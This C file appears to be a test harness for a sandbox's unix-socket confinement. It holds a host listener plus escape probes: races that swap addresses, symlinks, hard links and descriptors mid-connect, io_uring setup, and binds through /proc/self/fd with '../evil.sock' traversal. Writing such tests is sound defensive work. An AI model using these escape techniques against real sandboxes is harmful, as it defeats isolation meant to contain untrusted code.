/* Both ends of unix sockets.
 * On the host:  sockets serve stream|seqpacket|datagram ADDRESS FILE   notes each contact in FILE; prints "ready"
 * Inside:       sockets ATTACK ADDRESS OWN …                           OWN is a folder that may be written
 * An ADDRESS that starts with @ is abstract. */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { RACE_SECONDS = 2 };

static socklen_t make_address(struct sockaddr_un *address, const char *text)
{
	memset(address, 0, sizeof *address);
	address->sun_family = AF_UNIX;
	strncpy(address->sun_path, text, sizeof address->sun_path - 1);
	if (text[0] != '@')
		return sizeof *address;
	address->sun_path[0] = 0;
	return (socklen_t)(2 + strlen(text));
}

static int listen_at(int type, const char *path)
{
	struct sockaddr_un address;
	int fd = socket(AF_UNIX, type, 0);

	unlink(path);
	if (bind(fd, (struct sockaddr *)&address, make_address(&address, path)) != 0 || (type != SOCK_DGRAM && listen(fd, 64) != 0)) {
		perror(path);
		exit(1);
	}
	return fd;
}

static _Noreturn void serve(const char *kind, const char *path, const char *file)
{
	int type = strcmp(kind, "stream") == 0 ? SOCK_STREAM : strcmp(kind, "seqpacket") == 0 ? SOCK_SEQPACKET : SOCK_DGRAM;
	int fd = listen_at(type, path);

	puts("ready");
	fflush(stdout);
	for (;;) {
		char text[64];
		int peer = type == SOCK_DGRAM ? -1 : accept(fd, NULL, NULL);
		ssize_t length = type == SOCK_DGRAM ? recv(fd, text, sizeof text, 0) : 0;
		int out;

		if (length < 0 || (type != SOCK_DGRAM && peer < 0))
			continue;
		out = open(file, O_WRONLY | O_CREAT | O_APPEND, 0644);
		dprintf(out, "a %s contact\n", kind);
		close(out);
		if (peer >= 0)
			close(peer);
	}
}

static struct sockaddr_un outside;
static socklen_t outside_length;
static const char *own;

static void try_connect(int type)
{
	int fd = socket(AF_UNIX, type, 0);

	if (fd >= 0 && connect(fd, (struct sockaddr *)&outside, outside_length) == 0 && write(fd, "hello", 5) < 0)
		perror("write");
	if (fd >= 0)
		close(fd);
}

static void connect_each_type(void)
{
	try_connect(SOCK_STREAM);
	try_connect(SOCK_SEQPACKET);
	try_connect(SOCK_DGRAM);
	try_connect(SOCK_RAW);
	try_connect(SOCK_STREAM | SOCK_NONBLOCK);
}

static void send_on(int fd)
{
	struct iovec part = { "hello", 5 };
	struct mmsghdr messages[1] = { { .msg_hdr = { .msg_name = &outside, .msg_namelen = outside_length, .msg_iov = &part, .msg_iovlen = 1 } } };

	if (fd < 0)
		return;
	sendto(fd, "hello", 5, MSG_NOSIGNAL, (struct sockaddr *)&outside, outside_length);
	sendmsg(fd, &messages[0].msg_hdr, MSG_NOSIGNAL);
	sendmmsg(fd, messages, 1, MSG_NOSIGNAL);
	if (connect(fd, (struct sockaddr *)&outside, outside_length) == 0)
		send(fd, "hello", 5, MSG_NOSIGNAL);
}

static void send_from_each_type(void)
{
	static const int TYPES[] = { SOCK_DGRAM, SOCK_RAW, SOCK_STREAM, SOCK_SEQPACKET };
	int pair[2];

	for (size_t i = 0; i < sizeof TYPES / sizeof TYPES[0]; i++) {
		send_on(socket(AF_UNIX, TYPES[i], 0));
		if (socketpair(AF_UNIX, TYPES[i], 0, pair) == 0) {
			send_on(pair[0]);
			send_on(pair[1]);
		}
	}
}

/* io_uring: a ring, one IORING_OP_CONNECT in it. */
static void connect_by_io_uring(void)
{
	unsigned parameters[30] = { 0 };
	int ring = (int)syscall(425, 4, parameters);

	if (ring < 0)
		return;
	/* Answered at all: that is the hole, whatever one would then do with it. */
	FILE *leak = fopen(getenv("LEAK"), "a");

	fputs("io_uring_setup was answered\n", leak);
	fclose(leak);
}

/* A process whose memory nobody may read: its call must be refused, not let through. */
static void connect_undumpable(void)
{
	prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	connect_each_type();
}

static volatile int racing = 1;

static int time_is_up(const struct timespec *start)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec - start->tv_sec >= RACE_SECONDS;
}

/* Connects again and again while `flip` changes something under the call. */
static void race(void *(*flip)(void *), void *argument, const struct sockaddr_un *address, socklen_t length, int fixed)
{
	struct timespec start;
	pthread_t thread;

	pthread_create(&thread, NULL, flip, argument);
	for (clock_gettime(CLOCK_MONOTONIC, &start); !time_is_up(&start);) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);

		if (fixed >= 0) {
			dup2(fd, fixed);
			close(fd);
			fd = fixed;
		}
		if (connect(fd, (const struct sockaddr *)address, length) == 0 && send(fd, "hello", 5, MSG_NOSIGNAL) < 0)
			errno = 0;
		if (fixed < 0)
			close(fd);
	}
	racing = 0;
	pthread_join(thread, NULL);
}

static struct sockaddr_un shared_address, inside;

static void *flip_address(void *unused)
{
	while (racing) {
		memcpy(&shared_address, &outside, sizeof outside);
		memcpy(&shared_address, &inside, sizeof inside);
	}
	return unused;
}

static void *accept_and_close(void *listener)
{
	for (;;)
		close(accept(*(int *)listener, NULL, NULL));
	return NULL;
}

static const char *start_inside_server(void)
{
	static char path[128];
	static int listener;
	pthread_t thread;

	snprintf(path, sizeof path, "%s/inside.sock", own);
	listener = listen_at(SOCK_STREAM, path);
	pthread_create(&thread, NULL, accept_and_close, &listener);
	make_address(&inside, path);
	return path;
}

static void race_address(void)
{
	start_inside_server();
	shared_address = inside;
	race(flip_address, NULL, &shared_address, sizeof shared_address, -1);
}

static char link_path[128], link_targets[2][128];

/* `make` is symlink(2) or link(2). */
static void flip_between(int (*make)(const char *, const char *))
{
	char next[160];

	snprintf(next, sizeof next, "%s.next", link_path);
	for (int i = 0; racing; i++) {
		unlink(next);
		if (make(link_targets[i & 1], next) == 0)
			rename(next, link_path);
	}
}

static void *flip_link(void *unused)
{
	flip_between(symlink);
	return unused;
}

static void *flip_hard_link(void *unused)
{
	flip_between(link);
	return unused;
}

static void race_at_link_path(void *(*flip)(void *))
{
	struct sockaddr_un address;
	socklen_t length;

	snprintf(link_path, sizeof link_path, "%s/link.sock", own);
	snprintf(link_targets[0], sizeof link_targets[0], "%s", start_inside_server());
	snprintf(link_targets[1], sizeof link_targets[1], "%s", outside.sun_path);
	length = make_address(&address, link_path);
	race(flip, NULL, &address, length, -1);
}

static void race_link(void)
{
	race_at_link_path(flip_link);
}

static void race_hard_link(void)
{
	race_at_link_path(flip_hard_link);
}

/* The number stands for a TCP socket when it is looked at, and for a unix one when it is used. */
static void *flip_descriptor(void *number)
{
	int tcp = socket(AF_INET, SOCK_STREAM, 0), local = socket(AF_UNIX, SOCK_STREAM, 0);

	while (racing) {
		dup2(tcp, *(int *)number);
		dup2(local, *(int *)number);
	}
	return NULL;
}

static void race_descriptor(void)
{
	int number = 100;

	race(flip_descriptor, &number, &outside, outside_length, number);
}

/* Another file takes the place of a socket that was just bound: is that one taken for ours? */
static void *replace_bound(void *unused)
{
	char next[160];

	snprintf(next, sizeof next, "%s.next", link_path);
	while (racing) {
		unlink(next);
		if (access(link_path, F_OK) == 0 && link(outside.sun_path, next) == 0)
			rename(next, link_path);
	}
	return unused;
}

static void race_bind(void)
{
	struct sockaddr_un address;
	socklen_t length;
	struct timespec start;
	pthread_t thread;

	snprintf(link_path, sizeof link_path, "%s/bound.sock", own);
	length = make_address(&address, link_path);
	pthread_create(&thread, NULL, replace_bound, NULL);
	for (clock_gettime(CLOCK_MONOTONIC, &start); !time_is_up(&start);) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);

		unlink(link_path);
		if (bind(fd, (struct sockaddr *)&address, length) == 0) {
			int client;

			listen(fd, 8);
			usleep(200);
			client = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0);
			if (connect(client, (struct sockaddr *)&outside, outside_length) == 0 && send(client, "hello", 5, MSG_NOSIGNAL) < 0)
				errno = 0;
			close(client);
		}
		close(fd);
	}
	racing = 0;
	pthread_join(thread, NULL);
}

/* The launcher carries binds out where the network is open: its own descriptors must not be reachable by its /proc. */
static void bind_through_proc(void)
{
	static const char *const TAILS[] = { "evil.sock", "../evil.sock", "../../evil.sock", "../../../evil.sock" };
	char path[128], target[256];
	struct sockaddr_un address;

	for (int number = 0; number < 64; number++) {
		for (size_t i = 0; i < sizeof TAILS / sizeof TAILS[0]; i++) {
			int fd = socket(AF_UNIX, SOCK_STREAM, 0);

			snprintf(path, sizeof path, "/proc/self/fd/%d/%s", number, TAILS[i]);
			if (bind(fd, (struct sockaddr *)&address, make_address(&address, path)) == 0)
				fprintf(stderr, "bound %s\n", path);
			close(fd);
		}
		/* The same with a link of our own before it. */
		snprintf(target, sizeof target, "/proc/self/fd/%d", number);
		snprintf(path, sizeof path, "%s/proc-%d", own, number);
		if (symlink(target, path) == 0) {
			int fd = socket(AF_UNIX, SOCK_STREAM, 0);

			snprintf(path, sizeof path, "%s/proc-%d/../../evil.sock", own, number);
			if (bind(fd, (struct sockaddr *)&address, make_address(&address, path)) == 0)
				fprintf(stderr, "bound %s\n", path);
			close(fd);
		}
	}
}

static const struct { const char *name; void (*run)(void); } ATTACKS[] = {
	{ "connect", connect_each_type }, { "send", send_from_each_type }, { "io_uring", connect_by_io_uring }, { "undumpable", connect_undumpable },
	{ "race-address", race_address }, { "race-link", race_link }, { "race-hard-link", race_hard_link }, { "race-descriptor", race_descriptor },
	{ "race-bind", race_bind }, { "bind-through-proc", bind_through_proc },
};

int main(int argc, char **argv)
{
	if (argc == 5 && strcmp(argv[1], "serve") == 0)
		serve(argv[2], argv[3], argv[4]);
	if (argc != 4)
		return 2;
	outside_length = make_address(&outside, argv[2]);
	own = argv[3];
	for (size_t i = 0; i < sizeof ATTACKS / sizeof ATTACKS[0]; i++) {
		if (strcmp(ATTACKS[i].name, argv[1]) != 0)
			continue;
		ATTACKS[i].run();
		return 0;
	}
	fprintf(stderr, "there is no attack %s\n", argv[1]);
	return 2;
}
